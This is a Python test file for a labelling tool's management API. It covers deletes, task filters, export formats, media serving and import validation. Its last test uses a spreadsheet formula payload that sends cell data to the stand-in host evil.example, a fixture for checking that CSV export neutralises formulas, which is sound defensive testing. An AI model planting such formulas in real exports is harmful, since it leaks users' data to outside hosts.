"""The management API the UI builds on: deletes, task filters, export formats, media serving."""

from __future__ import annotations

import io

from app_testkit import BOX_CONFIG, NER_CONFIG, TEXT_CONFIG

from labelwise.formats import Item


def _png() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 200, 30)).save(buf, "PNG")
    return buf.getvalue()


def test_deletes(live) -> None:
    s = live.store
    p = s.create_project("del", TEXT_CONFIG, overlap=1)
    s.add_tasks(p.id, [Item(str(i), {"text": f"m{i}"}) for i in range(5)])
    s.add_member(p.id, "ann")
    admin, ann = live.client("admin"), live.client("ann")
    tid = ann.get(f"/api/projects/{p.id}/next").json()["tasks"][0]["id"]
    aid = ann.post(
        f"/api/projects/{p.id}/tasks/{tid}/annotations", json={"result": {"sentiment": "positive"}}
    ).json()["id"]
    # the author deletes their (unreviewed) annotation: the task is open again
    assert ann.delete(f"/api/annotations/{aid}").status_code == 200
    assert admin.get(f"/api/projects/{p.id}/tasks/{tid}").json()["complete"] is False
    assert ann.delete(f"/api/annotations/{aid}").status_code == 404
    # tasks: one, then several; annotators may not
    assert ann.delete(f"/api/projects/{p.id}/tasks/{tid}").status_code == 403
    assert admin.delete(f"/api/projects/{p.id}/tasks/{tid}").status_code == 200
    assert admin.delete(f"/api/projects/{p.id}/tasks/{tid}").status_code == 404
    rest = [t["id"] for t in admin.get(f"/api/projects/{p.id}/tasks").json()["tasks"]]
    r = admin.post(f"/api/projects/{p.id}/tasks/delete", json={"ids": rest[:2]})
    assert r.json() == {"deleted": 2}
    assert admin.get(f"/api/projects/{p.id}/tasks").json()["total"] == 2
    # users: one with work cannot be deleted (deactivate instead), a fresh one can
    tid = ann.get(f"/api/projects/{p.id}/next").json()["tasks"][0]["id"]
    ann.post(
        f"/api/projects/{p.id}/tasks/{tid}/annotations", json={"result": {"sentiment": "neutral"}}
    )
    r = admin.delete(f"/api/users/{live.users['ann'].id}")
    assert r.status_code == 409 and "deactivate" in r.json()["detail"]
    fresh = admin.post(
        "/api/users", json={"username": "temp", "password": "temp-pass-1", "role": "annotator"}
    ).json()
    assert admin.delete(f"/api/users/{fresh['id']}").status_code == 200
    assert "temp" not in {u["username"] for u in admin.get("/api/users").json()}
    assert admin.delete(f"/api/users/{live.users['admin'].id}").status_code == 400
    # the project, with its media folder
    media = live.folder / "media" / str(p.id)
    assert media.is_dir()
    r = admin.delete(f"/api/projects/{p.id}")
    assert r.status_code == 200 and r.json()["tasks"] == 2 and r.json()["annotations"] == 1
    assert admin.get(f"/api/projects/{p.id}").status_code == 404
    assert not media.exists()


def test_task_list_filters(live) -> None:
    s = live.store
    p = s.create_project("filters", NER_CONFIG, overlap=1)
    s.add_tasks(
        p.id,
        [
            Item("a", {"text": "Ada Lovelace in London"}),
            Item("b", {"text": "Bob at ACME"}),
            Item("c", {"text": "nothing 100% here_"}),
        ],
    )
    s.add_member(p.id, "ann")
    ann, rita = live.users["ann"], live.client("rita")
    s.add_member(p.id, "rita")
    tasks = {t["item_id"]: t["id"] for t in s.list_tasks(live.users["admin"], p.id)["tasks"]}
    s.submit(ann, p.id, tasks["a"], {"entities": [{"start": 0, "end": 3, "label": "PER"}]})
    s.submit(ann, p.id, tasks["b"], {"entities": [{"start": 7, "end": 11, "label": "ORG"}]})

    def ids(**params) -> list[str]:
        r = rita.get(f"/api/projects/{p.id}/tasks", params=params)
        assert r.status_code == 200, r.text
        return [t["item_id"] for t in r.json()["tasks"]]

    assert ids(status="complete") == ["a", "b"]
    assert ids(status="unannotated") == ["c"]
    assert ids(label="PER") == ["a"]
    assert ids(label="LOC") == []
    assert ids(annotator="ann") == ["a", "b"]
    assert ids(q="acme") == ["b"]
    assert ids(q="100%") == ["c"] and ids(q="e_") == ["c"]
    assert ids(limit=1, offset=1) == ["b"]
    row = rita.get(f"/api/projects/{p.id}/tasks", params={"q": "ada"}).json()["tasks"][0]
    assert row["annotators"][0]["username"] == "ann"
    assert rita.get(f"/api/projects/{p.id}/tasks", params={"status": "bogus"}).status_code == 400


def test_export_formats_fit_the_project(live) -> None:
    s = live.store
    text = s.create_project("t", TEXT_CONFIG)
    boxes = s.create_project("b", BOX_CONFIG)
    admin = live.client("admin")
    fits = {
        f["name"]: f["fits"]
        for f in admin.get(f"/api/projects/{text.id}/export/formats").json()["formats"]
    }
    assert fits == {
        "jsonl": True,
        "csv": True,
        "label_studio": True,
        "coco": False,
        "yolo": False,
        "voc": False,
        "conll": False,
        "mot": False,
        "cvat_video": False,
        "coco_video": False,
        "label_studio_video": False,
    }
    box_fits = admin.get(f"/api/projects/{boxes.id}/export/formats").json()["formats"]
    assert {f["name"] for f in box_fits if f["fits"]} >= {"coco", "yolo", "voc"}
    r = admin.get(f"/api/projects/{text.id}/export", params={"format": "yolo"})
    assert r.status_code == 400
    assert "yolo" in r.json()["detail"] and "COCO" not in r.json()["detail"]
    assert "jsonl" in r.json()["detail"]


def test_media_range_caching_and_upload_as_task(live) -> None:
    s = live.store
    p = s.create_project("imgs", BOX_CONFIG)
    s.add_member(p.id, "ann")
    admin, ann = live.client("admin"), live.client("ann")
    png = _png()
    r = admin.post(
        f"/api/projects/{p.id}/media",
        files={"file": ("cat.png", png, "image/png")},
        data={"add_task": "true"},
    )
    assert r.status_code == 201 and r.json()["task"]["tasks"] == 1
    task = ann.get(f"/api/projects/{p.id}/next").json()["tasks"][0]
    assert task["data"]["image"] == "cat.png" and task["data"]["width"] == 64
    url = f"/api/projects/{p.id}/media/cat.png"
    full = ann.get(url)
    assert full.status_code == 200 and full.content == png
    assert full.headers["accept-ranges"] == "bytes"
    assert "max-age" in full.headers["cache-control"]
    etag, modified = full.headers["etag"], full.headers["last-modified"]
    part = ann.get(url, headers={"Range": "bytes=0-9"})
    assert part.status_code == 206 and part.content == png[:10]
    assert part.headers["content-range"] == f"bytes 0-9/{len(png)}"
    assert ann.get(url, headers={"If-None-Match": etag}).status_code == 304
    assert ann.get(url, headers={"If-Modified-Since": modified}).status_code == 304
    assert ann.get(url, headers={"If-None-Match": '"other"'}).status_code == 200


def test_imports_refuse_tasks_without_their_object(live) -> None:
    s = live.store
    text = s.create_project("txt", TEXT_CONFIG)
    imgs = s.create_project("img", BOX_CONFIG)
    admin = live.client("admin")
    r = admin.post(f"/api/projects/{text.id}/tasks", json=[{"id": "1", "data": {"body": "hi"}}])
    assert r.status_code == 400 and "'text'" in r.json()["detail"]
    r = admin.post(
        f"/api/projects/{text.id}/import",
        files={"file": ("t.csv", b"id,body\n1,hello\n", "text/csv")},
    )
    assert r.status_code == 400 and "no text" in r.json()["detail"]
    r = admin.post(
        f"/api/projects/{imgs.id}/tasks", json=[{"id": "1", "data": {"image": "nope.png"}}]
    )
    assert r.status_code == 400 and "nope.png" in r.json()["detail"]
    assert "/tmp" not in r.text
    assert s.list_tasks(live.users["admin"], text.id)["total"] == 0
    assert s.list_tasks(live.users["admin"], imgs.id)["total"] == 0


def test_error_messages_do_not_show_server_paths(live) -> None:
    import tempfile

    p = live.store.create_project("leak", TEXT_CONFIG)
    admin = live.client("admin")
    for name, data in [
        ("bad.parquet", b"garbage" * 10),
        ("bad.csv", b"\xff\xfe\x00bad"),
        ("bad.jsonl", b'{"id": 1}\n{bad'),
    ]:
        r = admin.post(f"/api/projects/{p.id}/import", files={"file": (name, data)})
        assert r.status_code == 400 and name in r.json()["detail"]
        assert tempfile.gettempdir() not in r.text and str(live.folder) not in r.text


def test_csv_export_neutralises_formulas(live) -> None:
    import csv
    import io

    s = live.store
    p = s.create_project("csv", TEXT_CONFIG)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    s.add_tasks(p.id, [Item("=1+1", {"text": evil}), Item("2", {"text": "-2+3"})])
    r = live.client("admin").get(f"/api/projects/{p.id}/export", params={"format": "csv"})
    assert r.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(r.text)) for c in row]
    assert "'" + evil in cells and "'=1+1" in cells and "'-2+3" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    # and the file reads back to the original text
    from labelwise.formats.csv import from_csv

    back = from_csv(r.text, p.config)
    assert [it.id for it in back] == ["=1+1", "2"] and back[0].data["text"] == evil
